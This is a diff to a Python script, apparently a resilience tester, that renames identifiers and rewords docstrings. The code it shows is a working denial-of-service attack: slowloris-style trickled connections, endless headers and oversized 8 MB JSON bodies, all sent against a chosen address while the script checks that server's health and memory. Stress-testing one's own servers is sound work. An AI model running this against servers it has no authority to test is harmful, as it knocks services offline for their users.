@@ -25,29 +25,29 @@ KEYS = b"{%b}" % b",".join(b'"%d":0' % n for n in range(770_000))  # 8 MB
 MANY, LONG = b"X-Many: 1\r\n" * 5_000, b"x" * 50_000
 # Between two bytes of a slow connection.
 TRICKLE_SECONDS = 2.0
-ASK_SECONDS = 60.0
+CLIENT_SECONDS = 60.0
 
 
 @dataclass
 class Cost:
-    """What an attack did to a server."""
+    """The effect of an attack on a server."""
 
     connections: int = 0
-    """Most that were open at once."""
+    """Maximum number open at once."""
     header_mb: float = 0.0
-    """Of headers that the server took, in megabytes."""
+    """Megabytes of headers that the server read."""
     bodies: int = 0
-    """Answers to bodies of JSON, 8 MB each."""
+    """Responses to JSON bodies of 8 MB each."""
     live_max_seconds: float = 0.0
     live_failed: int = 0
-    live_asked: int = 0
+    live_requests: int = 0
     memory_before_mib: float = 0.0
     memory_max_mib: float = 0.0
     times: list[float] = field(default_factory=list, repr=False)
 
 
 class Attack:
-    """An attack on `host`:`port` that goes on in threads until it is stopped."""
+    """An attack on `host`:`port` by threads, until it is stopped."""
 
     def __init__(self, host: str, port: int, connections: int, headers: int, bodies: int) -> None:
         self.cost = Cost()
@@ -55,43 +55,43 @@ class Attack:
         self._stopping = threading.Event()
         self._threads = [threading.Thread(target=self._trickle, daemon=True)]
         self._threads += [
-            threading.Thread(target=self._pour, args=(MANY if n % 2 else LONG,), daemon=True)
+            threading.Thread(target=self._send_headers, args=(MANY if n % 2 else LONG,), daemon=True)
             for n in range(headers)
         ]
-        self._threads += [threading.Thread(target=self._describe, daemon=True) for _ in range(bodies)]
+        self._threads += [threading.Thread(target=self._send_json, daemon=True) for _ in range(bodies)]
 
     def start(self) -> None:
-        """Begin."""
+        """Start the threads."""
         for thread in self._threads:
             thread.start()
 
     def stop(self) -> None:
-        """End, and close every connection."""
+        """Stop, and close every connection."""
         self._stopping.set()
         for thread in self._threads:
             thread.join()
 
     def _trickle(self) -> None:
-        """Hold the connections, a byte of a header now and then; one that is closed is opened again."""
-        held: set[socket.socket] = set()
+        """Keep connections open with a byte of a header now and then; reopen closed ones."""
+        connections: set[socket.socket] = set()
         while not self._stopping.is_set():
             began = time.monotonic()
-            for each in list(held):
+            for each in list(connections):
                 if not _alive(each):
-                    held.discard(each)
+                    connections.discard(each)
                     each.close()
-            while len(held) < self._count and not self._stopping.is_set():
+            while len(connections) < self._count and not self._stopping.is_set():
                 with suppress(OSError):
-                    held.add(_half_open(self._where))
+                    connections.add(_half_open(self._where))
                 if time.monotonic() - began > TRICKLE_SECONDS:
                     break
-            self.cost.connections = max(self.cost.connections, len(held))
+            self.cost.connections = max(self.cost.connections, len(connections))
             self._stopping.wait(max(0.05, TRICKLE_SECONDS - (time.monotonic() - began)))
-        for each in held:
+        for each in connections:
             each.close()
 
-    def _pour(self, piece: bytes) -> None:
-        """Send headers without an end, as fast as they are taken."""
+    def _send_headers(self, piece: bytes) -> None:
+        """Send endless headers, as fast as the server reads them."""
         while not self._stopping.is_set():
             with suppress(OSError), socket.create_connection(self._where, timeout=5) as connection:
                 connection.sendall(HALF + b"1\r\n" if piece is MANY else HALF)
@@ -99,10 +99,10 @@ class Attack:
                     connection.sendall(piece)
                     self.cost.header_mb += len(piece) / 1e6
 
-    def _describe(self) -> None:
-        """Ask with JSON of as many keys as fit into it, again and again."""
+    def _send_json(self) -> None:
+        """Send JSON with as many keys as fit into a body, repeatedly."""
         while not self._stopping.is_set():
-            connection = http.client.HTTPConnection(*self._where, timeout=ASK_SECONDS)
+            connection = http.client.HTTPConnection(*self._where, timeout=CLIENT_SECONDS)
             with suppress(OSError, http.client.HTTPException):
                 connection.request("POST", "/v1/similar", KEYS, {"Content-Type": "application/json"})
                 connection.getresponse().read()
@@ -131,7 +131,7 @@ def _alive(connection: socket.socket) -> bool:
 def measure(
     address: str, connections: int, headers: int, bodies: int, seconds: float, process: int | None
 ) -> Cost:
-    """Attack `address` for so many seconds and ask for its health meanwhile."""
+    """Attack `address` for `seconds`, and check its health meanwhile."""
     parts = urlsplit(address)
     host, port = str(parts.hostname), int(parts.port or 80)
     attack = Attack(host, port, connections, headers, bodies)
@@ -140,7 +140,7 @@ def measure(
     until = time.monotonic() + seconds
     try:
         while time.monotonic() < until:
-            _ask(attack.cost, host, port)
+            _check_health(attack.cost, host, port)
             attack.cost.memory_max_mib = max(attack.cost.memory_max_mib, family_mib(process))
             time.sleep(0.1)
     finally:
@@ -148,10 +148,10 @@ def measure(
     return attack.cost
 
 
-def _ask(cost: Cost, host: str, port: int) -> None:
-    """Ask for the health as a stranger to the attack does: by a connection of one's own."""
-    began, cost.live_asked = time.monotonic(), cost.live_asked + 1
-    connection = http.client.HTTPConnection(host, port, timeout=ASK_SECONDS)
+def _check_health(cost: Cost, host: str, port: int) -> None:
+    """Check the health as another client does: on a new connection."""
+    began, cost.live_requests = time.monotonic(), cost.live_requests + 1
+    connection = http.client.HTTPConnection(host, port, timeout=CLIENT_SECONDS)
     try:
         connection.request("GET", "/health/live")
         good = connection.getresponse().status == http.client.OK
@@ -165,7 +165,7 @@ def _ask(cost: Cost, host: str, port: int) -> None:
 
 
 def family_mib(process: int | None) -> float:
-    """Memory of a server's processes; 0 when none is named."""
+    """Return the memory of a server's processes; 0 without a process."""
     if process is None:
         return 0.0
     family = [psutil.Process(process), *psutil.Process(process).children(recursive=True)]
@@ -177,29 +177,36 @@ def family_mib(process: int | None) -> float:
 
 
 def main() -> None:
-    """Attack, and print the cost as one JSON line."""
+    """Attack, and print the effect as one JSON line."""
     parser = argparse.ArgumentParser(description=__doc__)
-    parser.add_argument("address", help="such as http://127.0.0.1:8000")
+    parser.add_argument("address", help="for example http://127.0.0.1:8000")
     parser.add_argument(
         "--connections",
         type=int,
         default=1500,
-        help="that send a byte of a header now and then (default %(default)s)",
+        help="connections that send a byte of a header now and then (default %(default)s)",
     )
-    parser.add_argument("--headers", type=int, default=2, help="that do not end (default %(default)s)")
+    parser.add_argument(
+        "--headers", type=int, default=2, help="connections that send endless headers (default %(default)s)"
+    )
     parser.add_argument(
         "--bodies",
         type=int,
         default=0,
-        help="clients that ask with JSON of 770,000 keys (default %(default)s)",
+        help="clients that send JSON with 770,000 keys (default %(default)s)",
     )
-    parser.add_argument("--seconds", type=float, default=20.0, help="of attack (default %(default)s)")
     parser.add_argument(
-        "--process", type=int, help="id of the server's process, to watch the memory of it and its children"
+        "--seconds", type=float, default=20.0, help="duration of the attack (default %(default)s)"
     )
-    asked = parser.parse_args(sys.argv[1:])
+    parser.add_argument("--process", type=int, help="process id of the server, to watch its memory")
+    arguments = parser.parse_args(sys.argv[1:])
     cost = measure(
-        asked.address, asked.connections, asked.headers, asked.bodies, asked.seconds, asked.process
+        arguments.address,
+        arguments.connections,
+        arguments.headers,
+        arguments.bodies,
+        arguments.seconds,
+        arguments.process,
     )
     shown = {name: round(value, 3) for name, value in asdict(cost).items() if name != "times"}
     print(json.dumps(shown))
